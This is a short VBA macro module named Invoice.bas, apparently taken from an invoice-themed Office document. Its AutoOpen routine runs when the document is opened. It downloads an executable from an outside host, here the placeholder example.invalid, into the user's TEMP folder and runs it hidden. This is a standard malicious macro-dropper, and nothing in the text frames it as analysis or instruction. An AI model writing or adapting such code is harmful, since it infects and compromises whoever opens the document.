Invoice.bas
Attribute VB_Name = "Module1"
Sub AutoOpen()
    URLDownloadToFile 0, "http://example.invalid/a.exe", Environ("TEMP") & "\a.exe", 0, 0
    Shell Environ("TEMP") & "\a.exe", vbHide
End Sub
